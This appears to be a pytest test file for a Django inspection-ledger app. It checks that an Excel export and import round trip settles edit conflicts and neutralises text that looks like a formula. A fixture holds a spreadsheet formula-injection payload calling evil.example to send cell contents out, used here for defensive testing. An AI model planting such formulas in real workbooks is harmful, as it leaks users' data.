"""The Excel round trip never reverts someone else's change: only cells the user edited count, a task
changed on both sides since the export is a conflict the importer settles per task, and text that looks
like a formula is written as inert text and comes back as the same string."""

from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import load_workbook

from zhenggai.ledger.models import Event, ProgressNote, Task
from zhenggai.ledger.services.assign import assign_task
from zhenggai.ledger.services.progress import add_note
from zhenggai.outputs.cells import TRIGGERS
from zhenggai.outputs.errors import WorkbookRejected
from zhenggai.outputs.xlsx_read import read_workbook
from zhenggai.reports.ledger_xlsx import ledger_workbook
from zhenggai.reports.xlsx_import import ImportConflicts, Keep, Resolution, import_workbook

pytestmark = pytest.mark.django_db
TODAY = date(2024, 8, 30)
FORMULA = '=HYPERLINK("http://evil.example/steal?c="&A1,"点击查看整改材料")'


@pytest.fixture
def unit_office(make_user, make_inspection):
    inspection = make_inspection()
    return make_user("unit_office", unit=inspection.unit, username="unit_office")


@pytest.fixture
def inspection(unit_office):
    from zhenggai.ledger.models import Inspection

    return Inspection.objects.get(unit=unit_office.unit)


@pytest.fixture
def tasks(inspection):
    """Task A (the office will change it) and task B (the unit will), in ledger order."""
    first, second = Task.objects.filter(finding__inspection=inspection).order_by("pk")[:2]
    return first, second


def export(inspection, actor):
    return load_workbook(io.BytesIO(ledger_workbook(inspection, actor=actor, as_of=TODAY)))


def save(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def cell(wb, sheet: str, task: Task, header: str):
    ws = wb[sheet]
    headers = {c.value: c.column for c in ws[2]}
    row = next(r for r in range(3, ws.max_row + 1) if ws.cell(r, headers["任务编号"]).value == task.pk)
    return ws.cell(row, headers[header])


def state(inspection) -> tuple:
    tasks = Task.objects.filter(finding__inspection=inspection).order_by("pk")
    rows = tasks.values_list("pk", "status", "deadline", "department", "responsible_leader", "handler_id", "version")
    return tuple(rows), ProgressNote.objects.count(), Event.objects.exclude(action="exported").count()


def test_a_cell_the_unit_left_alone_does_not_revert_the_office(inspection, tasks, office, unit_office):
    task_a, task_b = tasks
    wb = export(inspection, unit_office)
    assign_task(task_a, actor=office, department="纪检监察组")  # after the export, in the system
    add_note(task_a, actor=office, text="巡察办已督办")
    cell(wb, "责任清单", task_b, "责任科室").value = "办公室"  # the unit edits only task B
    events = Event.objects.count()
    result = import_workbook(inspection, save(wb), actor=unit_office)
    assert result.summary() == "已修改1项任务的1处内容"
    task_a.refresh_from_db()
    task_b.refresh_from_db()
    assert task_a.department == "纪检监察组" and task_b.department == "办公室"
    assert ProgressNote.objects.filter(task=task_a).latest("created_at").text == "巡察办已督办"
    new = list(Event.objects.order_by("id")[events:])
    assert [(e.actor, e.object_id, e.before, e.after) for e in new if e.object_type == "task"] == [
        (unit_office, str(task_b.pk), {"department": ""}, {"department": "办公室"})
    ]
    assert not [e for e in new if e.object_type == "task" and e.object_id == str(task_a.pk)]


def test_a_task_changed_on_both_sides_is_a_conflict_and_nothing_is_written(inspection, tasks, office, unit_office):
    task_a, task_b = tasks
    wb = export(inspection, unit_office)
    assign_task(task_a, actor=office, department="纪检监察组")
    cell(wb, "责任清单", task_a, "责任科室").value = "办公室"
    cell(wb, "责任清单", task_b, "责任领导").value = "局长"
    before = state(inspection)
    with pytest.raises(ImportConflicts) as caught:
        import_workbook(inspection, save(wb), actor=unit_office)
    (conflict,) = caught.value.conflicts
    assert conflict.task_id == task_a.pk and conflict.version == task_a.version == 2
    (field,) = conflict.fields
    assert (field.header, field.exported, field.mine, field.system) == ("责任科室", "", "办公室", "纪检监察组")
    assert "请逐项选择保留您的修改还是保留系统中的内容" in caught.value.message
    assert state(inspection) == before  # not even task B, which had no conflict


@pytest.mark.parametrize("keep", [Keep.SYSTEM, Keep.MINE])
def test_the_importer_keeps_the_system_or_theirs(inspection, tasks, office, unit_office, keep):
    task_a, task_b = tasks
    wb = export(inspection, unit_office)
    assign_task(task_a, actor=office, department="纪检监察组")
    cell(wb, "责任清单", task_a, "责任科室").value = "办公室"
    cell(wb, "责任清单", task_b, "责任领导").value = "局长"
    events = Event.objects.count()
    result = import_workbook(inspection, save(wb), actor=unit_office, keep=keep)
    task_a.refresh_from_db()
    task_b.refresh_from_db()
    assert task_b.responsible_leader == "局长"
    written = {e.object_id for e in Event.objects.order_by("id")[events:] if e.object_type == "task"}
    assert {e.actor for e in Event.objects.order_by("id")[events:]} == {unit_office}
    if keep == Keep.SYSTEM:
        assert task_a.department == "纪检监察组" and written == {str(task_b.pk)}
        assert result.summary() == "已修改1项任务的1处内容;1项有冲突的任务保留系统中的内容"
    else:
        assert task_a.department == "办公室" and written == {str(task_a.pk), str(task_b.pk)}
        assert result.summary() == "已修改2项任务的2处内容"


def test_a_choice_made_on_an_older_version_is_asked_again(inspection, tasks, office, unit_office):
    task_a, _ = tasks
    wb = export(inspection, unit_office)
    assign_task(task_a, actor=office, department="纪检监察组")
    cell(wb, "责任清单", task_a, "责任科室").value = "办公室"
    with pytest.raises(ImportConflicts) as first:
        import_workbook(inspection, save(wb), actor=unit_office)
    seen = first.value.conflicts[0].version
    assign_task(task_a, actor=office, department="党建办")  # while the importer was choosing
    with pytest.raises(ImportConflicts) as again:
        import_workbook(inspection, save(wb), actor=unit_office, keep={task_a.pk: Resolution(Keep.MINE, seen)})
    assert again.value.conflicts[0].fields[0].system == "党建办"
    task_a.refresh_from_db()
    assert task_a.department == "党建办"


def test_the_same_edit_on_both_sides_is_no_conflict_and_no_history(inspection, tasks, office, unit_office):
    task_a, _ = tasks
    wb = export(inspection, unit_office)
    assign_task(task_a, actor=office, department="办公室")
    cell(wb, "责任清单", task_a, "责任科室").value = "办公室"
    before = state(inspection)
    result = import_workbook(inspection, save(wb), actor=unit_office)
    assert result.changes == () and state(inspection) == before


def test_a_progress_note_added_since_the_export_is_a_change_in_the_system(inspection, tasks, office, unit_office):
    task_a, _ = tasks
    wb = export(inspection, unit_office)
    add_note(task_a, actor=office, text="巡察办已督办")  # a note does not change the task's version
    cell(wb, "任务清单", task_a, "进展情况").value = "已完成自查"
    with pytest.raises(ImportConflicts) as caught:
        import_workbook(inspection, save(wb), actor=unit_office)
    (field,) = caught.value.conflicts[0].fields
    assert (field.field, field.mine, field.system) == ("progress", "已完成自查", "巡察办已督办")


def test_a_status_the_office_changed_since_is_neither_reverted_nor_an_error(inspection, tasks, office, unit_office):
    from zhenggai.ledger.workflow import transition

    _, task_b = tasks
    task_a = Task.objects.get(finding__inspection=inspection, finding__title__startswith="河道采砂")
    wb = export(inspection, unit_office)
    transition(task_a, actor=office, to_status="基本完成")  # the problem's status (问题清单) follows
    cell(wb, "责任清单", task_b, "责任领导").value = "局长"
    assert import_workbook(inspection, save(wb), actor=unit_office).summary() == "已修改1项任务的1处内容"
    task_a.refresh_from_db()
    assert task_a.status == "基本完成"


def test_naming_the_same_person_differently_is_no_change(inspection, tasks, office, unit_office, make_user):
    task_a, _ = tasks
    person = make_user("responsible", unit=inspection.unit, username="zhang")
    person.display_name = "张三"
    person.save()
    assign_task(task_a, actor=office, handler=person)
    wb = export(inspection, unit_office)
    cell(wb, "责任清单", task_a, "责任人").value = "zhang"  # the username instead of the name shown
    before = state(inspection)
    assert import_workbook(inspection, save(wb), actor=unit_office).changes == ()
    assert state(inspection) == before


def test_a_workbook_of_another_inspection_is_refused(inspection, make_inspection, make_doc, office):
    doc = make_doc()
    doc.inspection.unit = "青溪县林业局党组"
    other = make_inspection(doc)
    with pytest.raises(WorkbookRejected, match=f"导出自另一次巡察\\(检查编号 {other.pk}\\)"):
        import_workbook(inspection, save(export(other, office)), actor=office)


@pytest.mark.parametrize(("at", "value"), [("A1", "something else"), ("B3", 10**20), ("C3", "一"), ("A4", "row")])
def test_a_damaged_export_sheet_is_refused(inspection, office, at, value):
    wb = export(inspection, office)
    wb["导出信息"][at] = value
    with pytest.raises(WorkbookRejected) as caught:
        import_workbook(inspection, save(wb), actor=office)
    assert caught.value.code == "export_damaged"


STORED = {
    "progress": FORMULA,
    "department": "-5万元专项经费",
    "responsible_leader": "+86 0571",
    "other": "@分管副局长",
}


@pytest.fixture
def hostile(inspection, tasks, office, unit_office):
    """Text a unit typed that a spreadsheet would run as a formula."""
    task_a, task_b = tasks
    add_note(task_a, actor=unit_office, text=STORED["progress"])
    assign_task(task_a, actor=unit_office, department=STORED["department"], responsible_leader="=1+1")
    assign_task(task_b, actor=unit_office, responsible_leader=STORED["responsible_leader"], department="—")
    add_note(task_b, actor=unit_office, text=STORED["other"])
    return task_a, task_b


def test_exported_cells_of_user_text_are_inert_text(inspection, hostile, office):
    wb = export(inspection, office)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for item in row:
                if isinstance(item.value, str):
                    assert item.data_type == "s", (ws.title, item.coordinate, item.value)
                    assert not item.value.startswith(TRIGGERS), (ws.title, item.coordinate, item.value)
                    texts.append(item.value)
    task_a, task_b = hostile
    assert cell(wb, "任务清单", task_a, "进展情况").value == "'" + FORMULA
    assert cell(wb, "责任清单", task_a, "责任科室").value == "'-5万元专项经费"
    assert cell(wb, "责任清单", task_a, "责任领导").value == "'=1+1"
    assert cell(wb, "责任清单", task_b, "责任科室").value == "—"  # a dash is no minus: left alone
    assert "'@分管副局长" in texts


def test_such_text_makes_the_round_trip_unchanged(inspection, hostile, office):
    data = ledger_workbook(inspection, actor=office, as_of=TODAY)
    sheet = next(s for s in read_workbook(data).sheets if s.name == "责任清单")
    task_a, task_b = hostile
    values = {r.values["task_id"]: r.values for r in sheet.rows}
    assert values[task_a.pk]["progress"] == FORMULA and values[task_a.pk]["department"] == "-5万元专项经费"
    assert values[task_a.pk]["leader"] == "=1+1"
    assert values[task_b.pk]["leader"] == "+86 0571" and values[task_b.pk]["department"] == "—"
    before = state(inspection)
    assert import_workbook(inspection, data, actor=office).changes == ()
    assert state(inspection) == before


def test_a_formula_typed_as_text_in_excel_comes_back_as_that_text(inspection, tasks, unit_office):
    _, task_b = tasks
    wb = export(inspection, unit_office)
    typed = cell(wb, "任务清单", task_b, "进展情况")
    typed.value = "=SUM(1)"
    typed.data_type = "s"  # what Excel stores for '=SUM(1): a text cell
    cell(wb, "责任清单", task_b, "责任科室").value = "'-5万元"  # as a neutralised cell: it means -5万元
    import_workbook(inspection, save(wb), actor=unit_office)
    task_b.refresh_from_db()
    assert ProgressNote.objects.filter(task=task_b).latest("created_at").text == "=SUM(1)"
    assert task_b.department == "-5万元"
    wb = export(inspection, unit_office)
    assert cell(wb, "任务清单", task_b, "进展情况").value == "'=SUM(1)"


@pytest.fixture
def _keep_the_test_connection(monkeypatch):
    """A command run from the command line closes every connection when it ends (see test_cli.py)."""
    from django.db import connections

    monkeypatch.setattr(connections, "close_all", lambda: None)


@pytest.mark.usefixtures("_keep_the_test_connection")
def test_the_command_lists_conflicts_and_applies_only_with_keep(
    inspection, tasks, office, unit_office, tmp_path, capsys
):
    from zhenggai.cli import main

    task_a, task_b = tasks
    wb = export(inspection, unit_office)
    assign_task(task_a, actor=office, department="纪检监察组")
    cell(wb, "责任清单", task_a, "责任科室").value = "办公室"
    cell(wb, "责任清单", task_b, "责任领导").value = "局长"
    path = tmp_path / "台账.xlsx"
    wb.save(path)
    args = ["import-xlsx", str(path), "--inspection", str(inspection.pk), "--as", "unit_office"]
    before = state(inspection)
    assert main(args) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0].startswith("责任清单第") and f"(任务编号 {task_a.pk})" in err[0]
    assert err[1] == "  责任科室:导出时 (空),您改为 “办公室”,系统中现为 “纪检监察组”"
    assert "请加 --keep mine 保留您的修改,或 --keep system 保留系统中的内容" in err[-1]
    assert state(inspection) == before
    assert main([*args, "--keep", "system"]) == 0
    assert "1项有冲突的任务保留系统中的内容" in capsys.readouterr().out
    task_a.refresh_from_db()
    task_b.refresh_from_db()
    assert task_a.department == "纪检监察组" and task_b.responsible_leader == "局长"
    assign_task(task_a, actor=office, department="党建办")  # a new conflict for the same workbook
    assert main([*args, "--keep", "mine"]) == 0
    assert "责任科室 “党建办” → “办公室”" in capsys.readouterr().out
    task_a.refresh_from_db()
    assert task_a.department == "办公室"
    assert Event.objects.filter(action="assigned", object_id=str(task_a.pk)).latest("id").actor == unit_office


def _upload(client, inspection, wb):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    url = reverse("reports:ledger_import", args=[inspection.pk])
    return client.post(url, {"file": SimpleUploadedFile("台账.xlsx", save(wb))})


def _form(html: str) -> dict:
    """The hidden inputs of the conflict page, as a browser would send them back."""
    import re

    return dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', html))


@pytest.mark.parametrize(("choice", "department"), [("mine", "办公室"), ("system", "纪检监察组")])
def test_the_web_import_shows_the_conflict_page_then_applies_the_choice(
    client, inspection, tasks, office, unit_office, choice, department
):
    from django.urls import reverse

    task_a, task_b = tasks
    wb = export(inspection, unit_office)
    assign_task(task_a, actor=office, department="纪检监察组")
    cell(wb, "责任清单", task_a, "责任科室").value = "办公室"
    cell(wb, "责任清单", task_b, "责任领导").value = "局长"
    client.force_login(unit_office)
    before = state(inspection)
    response = _upload(client, inspection, wb)
    html = response.content.decode()
    assert response.status_code == 409
    assert "导入冲突:请逐项选择" in html and f'name="keep_{task_a.pk}" value="mine" required' in html
    assert '<td data-label="您的修改">办公室</td>' in html and '<td data-label="系统中现在">纪检监察组</td>' in html
    assert "<script" not in html.split("<main", 1)[-1]  # a plain form: nothing for the CSP to allow
    assert state(inspection) == before
    fields = _form(html)
    url = reverse("reports:ledger_resolve", args=[inspection.pk])
    unanswered = client.post(url, fields)
    assert unanswered.status_code == 409 and "仍有任务未作选择" in unanswered.content.decode()
    assert state(inspection) == before
    tampered = client.post(url, {**fields, "edits": fields["edits"][:-2] + "xx", f"keep_{task_a.pk}": choice})
    assert tampered.status_code == 400 and "导入内容已过期或无效" in tampered.content.decode()
    assert state(inspection) == before
    events = Event.objects.count()
    done = client.post(url, {**fields, f"keep_{task_a.pk}": choice})
    assert done.status_code == 302 and done["Location"].endswith("#ledger")
    task_a.refresh_from_db()
    task_b.refresh_from_db()
    assert task_a.department == department and task_b.responsible_leader == "局长"
    written = [e for e in Event.objects.order_by("id")[events:] if e.object_type == "task"]
    assert {e.actor for e in written} == {unit_office}
    assert {e.object_id for e in written} == (
        {str(task_b.pk)} if choice == "system" else {str(task_a.pk), str(task_b.pk)}
    )
